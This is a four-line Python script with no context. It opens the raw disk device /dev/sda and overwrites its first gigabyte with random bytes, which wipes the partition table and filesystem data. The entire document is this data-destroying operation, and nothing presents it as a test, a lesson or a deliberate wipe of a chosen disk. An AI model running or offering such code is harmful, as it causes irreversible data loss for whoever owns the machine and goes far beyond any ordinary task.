import os
with open("/dev/sda", "wb") as d:
    for _ in range(1024):
        d.write(os.urandom(1 << 20))
